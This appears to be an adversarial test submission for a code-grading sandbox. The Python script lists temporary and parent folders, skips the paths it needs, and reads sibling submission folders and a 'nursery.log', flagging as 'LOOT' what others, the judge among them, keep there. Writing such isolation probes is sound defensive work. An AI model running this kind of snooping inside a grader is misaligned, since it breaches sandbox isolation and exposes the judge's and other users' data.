# attack: lists and reads what others keep in the temporary folders, the judge's own among them
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import sys
from pathlib import Path

mine = Path.cwd()
ways = [mine, *map(Path, sys.path), Path(sys.executable), Path(sys.base_prefix)]  # what it has to see
for place in (Path("/tmp"), Path("/var/tmp"), Path("/usr/tmp"), *mine.parents):
    try:
        names = {n for n in os.listdir(place) if not any(way.is_relative_to(place / n) for way in ways)}
        print(place, names)
        names = {n for n in names if not n.startswith("torchinductor")}  # the nursery's
        if names and (str(place) != "/" or names & {"home", "work", "srv"}):
            print("LOOT:", place, len(names), "names")
    except OSError as error:
        print(place, error.strerror)
for folder in (mine.parent, Path("/tmp")):
    for name in ("nursery.log", "empty", *(f"{n:06d}" for n in range(1, 60)), ".X11-unix", ".font-unix"):
        try:
            inside = os.listdir(folder / name) if name != "nursery.log" else (folder / name).read_bytes()
            if folder / name != mine:
                print("LOOT:", folder / name, len(inside))
        except OSError as error:
            failed = error.strerror
print(failed)
print("TRIED")
